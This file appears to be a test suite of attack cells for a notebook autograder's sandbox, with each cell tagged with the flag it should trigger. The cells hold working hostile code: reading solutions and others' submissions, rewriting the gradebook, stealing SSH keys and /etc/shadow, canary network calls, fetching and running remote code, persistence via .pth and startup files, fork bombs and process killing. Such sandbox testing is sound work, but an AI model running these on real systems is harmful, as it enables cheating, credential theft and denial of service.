# %% attack: reads_solutions
# group: reading what is not one's own
# tries: Reads the answers from the course's folder.
# flag: looked for what is not its own
import glob
import json

text = open("COURSE_ROOT/solutions/07_tiny/07_tiny.ipynb").read()
exec("".join("".join(c["source"]) for c in json.loads(text)["cells"] if "double" in str(c["source"])))

# %% attack: copies_another
# group: reading what is not one's own
# tries: Takes over the answers of another student.
# flag: looked for what is not its own
import json
import os

for student in os.listdir("COURSE_ROOT/submitted"):
    notebook = json.load(open(f"COURSE_ROOT/submitted/{student}/07_tiny/07_tiny.ipynb"))

# %% attack: writes_the_gradebook
# group: reading what is not one's own
# tries: Gives every student full points in the database.
# flag: looked for what is not its own
import sqlite3

with sqlite3.connect("COURSE_ROOT/gradebook.db") as book:
    book.execute("update grade set manual_score = 100")

# %% attack: writes_its_record
# group: reading what is not one's own
# tries: Writes its own result beside the notebook and where the grader looks for it.
# flag: looked for what is not its own | tried to write elsewhere
import os

os.makedirs("COURSE_ROOT/autograded/cheat/07_tiny", exist_ok=True)
open("COURSE_ROOT/autograded/cheat/07_tiny/result.json", "w").write('{"score": 5}')

# %% attack: reads_other_processes
# group: reading what is not one's own
# tries: Reads environments and memory of the machine's other processes.
# flag: looked for what is not its own
import os

names = ["VICTIM_PID"]
try:
    names += os.listdir("/proc")
except OSError:
    pass
for name in names:
    for file in ("environ", "mem", "maps"):
        try:
            open(f"/proc/{name}/{file}", "rb").read(10)
        except OSError:
            pass

# %% attack: traces_another_process
# group: reading what is not one's own
# tries: Attaches to the grader with ptrace and reads its memory.
# flag: calls behind Python's back
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(16, os.getppid(), 0, 0)
libc.ptrace(16, VICTIM_PID, 0, 0)
libc.process_vm_readv(VICTIM_PID, None, 0, None, 0, 0)

# %% attack: steals_secrets
# group: reading what is not one's own
# tries: Prints keys and passwords of the person who grades.
# flag: looked for what is not its own
import os
from pathlib import Path

print({k: v for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k})
for path in ("/etc/shadow", Path.home() / ".ssh" / "id_rsa", os.path.expanduser("~root/.ssh/id_rsa")):
    try:
        print(open(path).read())
    except OSError:
        pass

# %% attack: calls_home
# group: network
# tries: Sends what it finds to a server.
# flag: tried to reach the network
import socket

for address in (("127.0.0.1", CANARY_PORT), ("1.1.1.1", 443)):
    try:
        socket.create_connection(address, 1).sendall(b"found")
    except OSError:
        pass

# %% attack: calls_home_by_http
# group: network
# tries: Downloads the answers.
# flag: tried to reach the network
from urllib.request import urlopen

try:
    exec(urlopen("http://localhost:CANARY_PORT/answers.py", timeout=1).read())
except OSError:
    pass

# %% attack: calls_home_by_udp
# group: network
# tries: Sends datagrams, for which no connection is needed.
# flag: tried to reach the network
import socket

for port in (53, CANARY_PORT):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"found", ("127.0.0.1", port))
    except OSError:
        pass

# %% attack: listens
# group: network
# tries: Opens a port and waits for visitors.
# flag: tried to reach the network
import socket
import threading

def wait():
    server = socket.create_server(("0.0.0.0", 47811))
    server.accept()

try:
    probe = socket.create_server(("0.0.0.0", 47811))
except OSError:
    pass

# %% attack: writes_into_the_environment
# group: writing
# tries: Leaves a file among the installed packages that every later Python runs.
# flag: tried to write elsewhere
import site
import sys

for folder in [*site.getsitepackages(), sys.prefix + "/bin", "/usr/lib/python3/dist-packages"]:
    try:
        open(folder + "/usercustomize.py", "w").write("open('ATTACK_MARK', 'w')")
        open(folder + "/attack.pth", "w").write("import os; os.system('touch ATTACK_MARK')")
    except OSError:
        pass

# %% attack: changes_the_course_package
# group: writing
# tries: Rewrites the course's own checks on disk.
# flag: tried to write elsewhere
import course_utils

for name in ("checks.py", "grading/execute.py", "attack.py"):
    try:
        open(course_utils.__path__[0] + "/" + name, "a").write("\nopen('ATTACK_MARK', 'w')\n")
    except OSError:
        pass

# %% attack: leaves_files
# group: writing
# tries: Leaves files in folders that everybody may write to.
# flag: tried to write elsewhere
for path in ("ATTACK_MARK", "/tmp/attack-mark", "/var/tmp/attack-mark", "/dev/shm/attack-mark", "/home/attack-mark"):
    try:
        open(path, "w").write("here")
    except OSError:
        pass

# %% attack: startup_files
# group: writing
# tries: Writes IPython, Python and shell startup files into its home.
# flag: nothing passed
from pathlib import Path

startup = Path.home() / ".ipython" / "profile_default" / "startup"
startup.mkdir(parents=True, exist_ok=True)
(startup / "00.py").write_text("open('ATTACK_MARK', 'w')")
(Path.home() / ".bashrc").write_text("touch ATTACK_MARK")

# %% attack: changes_its_settings
# group: writing
# tries: Sets variables that the course and Python listen to.
# flag: changed the environment
import os

os.environ["COURSE_GRADING"] = "0"
os.environ["PYTHONSTARTUP"] = "ATTACK_MARK"
os.environ["LD_PRELOAD"] = "/tmp/evil.so"

# %% attack: kills_the_grader
# group: processes
# tries: Sends signals to its parent, to the grader and to everybody.
# flag: signals to other processes | kernel died
import os

for pid in (os.getppid(), VICTIM_PID, -1, 1):
    try:
        os.kill(pid, 9 if pid != -1 else 0)
    except OSError:
        pass

# %% attack: fork_bomb
# group: processes
# tries: Starts processes until the machine stops.
# flag: processes | memory
import os
import time

for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(300)
            os._exit(0)
    except OSError:
        break

# %% attack: daemon
# group: processes
# tries: Leaves a process behind that belongs to nobody and waits.
# flag: processes of its own
import os
import sys

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "ATTACK_MARK"])
    os._exit(0)
os.wait()

# %% attack: stopped_kernel
# group: processes
# tries: Stops its own process, so that the grader waits for ever.
# flag: kernel died
import os
import signal

os.kill(os.getpid(), signal.SIGSTOP)

# %% attack: exits
# group: processes
# tries: Ends the kernel in the middle.
# flag: kernel died
import os

os._exit(1)

# %% attack: crashes
# group: processes
# tries: Crashes the interpreter.
# flag: kernel died
import ctypes

ctypes.string_at(0)

# %% attack: takes_all_memory
# group: memory, disk, time
# tries: Takes memory in many processes at once.
# flag: memory
import os
import time

for _ in range(8):
    if os.fork() == 0:
        keep = bytearray(os.urandom(1)) * (400 * 2**20)
        time.sleep(30)
time.sleep(30)

# %% attack: takes_memory_in_one_piece
# group: memory, disk, time
# tries: Takes 100 GB.
# flag: out of memory
keep = bytearray(100 * 2**30)

# %% attack: fills_the_disk
# group: memory, disk, time
# tries: Writes until no disk is left.
# flag: disk | wrote more than
import os

os.makedirs("much", exist_ok=True)
for number in range(100):
    with open(f"much/{number}", "wb") as file:
        file.write(bytes(2**20))

# %% attack: endless_loop
# group: memory, disk, time
# tries: Never ends.
# flag: cell took too long
while True:
    pass

# %% attack: endless_output
# group: memory, disk, time
# tries: Prints 500 MB.
# flag: too much output
for _ in range(500):
    print("x" * 1_000_000)

# %% attack: endless_thoughts
# group: memory, disk, time
# tries: One operation that takes hours and that no interrupt can stop.
# flag: kernel died
number = 10 ** 10 ** 9 % 7

# %% attack: calls_home_by_a_unix_socket
# group: network
# tries: Speaks to the sockets of other programs: by their path, by a datagram, by the name of no file.
# flag: nothing passed
import socket

for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for ask in (lambda s: s.connect("CANARY_SOCKET"), lambda s: s.sendto(b"found", "CANARY_SOCKET-datagrams")):
        try:
            ask(socket.socket(socket.AF_UNIX, kind))
        except OSError:
            pass
    try:
        socket.socketpair(socket.AF_UNIX, kind)[0].sendto(b"found", "CANARY_SOCKET-datagrams")
    except OSError:
        pass

# %% attack: sockets_that_lead_elsewhere
# group: network
# tries: Has the grader itself connect to a socket of another program, through links in place of the kernel's.
# flag: nothing passed | kernel died
import glob
import os

for path in glob.glob("/run/kernel/k-*") + glob.glob(os.environ["HOME"] + "/../k-*"):
    try:
        os.remove(path)
        os.symlink("CANARY_SOCKET", path)
    except OSError:
        pass
os.kill(os.getpid(), 11)

# %% attack: calls_home_by_other_protocols
# group: network
# tries: TCP by its extensions, and the sockets of virtual machines.
# flag: nothing passed | tried to reach the network
import socket

for family, protocol, address in (
    (socket.AF_INET, 262, ("127.0.0.1", CANARY_PORT)),
    (socket.AF_INET, 132, ("127.0.0.1", CANARY_PORT)),
    (socket.AF_VSOCK, 0, (1, CANARY_PORT)),
):
    try:
        socket.socket(family, socket.SOCK_STREAM, protocol).connect(address)
    except OSError:
        pass
try:
    socket.socket().sendto(b"found", 0x20000000, ("127.0.0.1", CANARY_PORT))
except OSError:
    pass

# %% attack: leaves_answers_in_shared_memory
# group: writing
# tries: Leaves an answer for the next submission where no file is.
# flag: calls behind Python's back
import ctypes

libc = ctypes.CDLL(None)
libc.shmget(0x636f7573, 4096, 0o1666)
libc.msgget(0x636f7573, 0o1666)
libc.semget(0x636f7573, 1, 0o1666)

# %% attack: locks_others_out
# group: writing
# tries: Takes the rights away from another student's notebook, and changes its time.
# flag: tried to write elsewhere | looked for what is not its own
import os

for change in (lambda p: os.chmod(p, 0), lambda p: os.utime(p, (0, 0)), lambda p: os.truncate(p, 0)):
    for path in ("COURSE_ROOT/submitted/honest_anna/07_tiny/07_tiny.ipynb", "COURSE_ROOT/submitted"):
        try:
            change(path)
        except OSError:
            pass

# %% attack: slows_the_grader
# group: processes
# tries: Changes priority, processors and limits of other processes.
# flag: nothing passed
import os
import resource

for pid in (VICTIM_PID, os.getppid()):
    for change in (
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
    ):
        try:
            change()
        except OSError:
            pass

# %% attack: hides_memory
# group: memory, disk, time
# tries: Takes memory that belongs to no process: in files without a name, and shared.
# flag: nothing passed | memory
import mmap
import os

kept = []
for _ in range(20):
    try:
        file = os.memfd_create("hidden")
        os.write(file, bytes(60 * 2**20))
        kept.append(file)
    except OSError:
        pass
    try:
        shared = mmap.mmap(-1, 60 * 2**20)
        shared.write(bytes(60 * 2**20))
        shared.madvise(mmap.MADV_DONTNEED)
        kept.append(shared)
    except OSError:
        pass
taken = len(kept)
assert not taken, "memory that nobody counts"

# %% attack: stretches_its_time
# group: memory, disk, time
# tries: Sixty processes that work without end, so that the clock for waiting stands still.
# flag: took too long | kernel died | processes
import os

for _ in range(60):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break
while True:
    pass
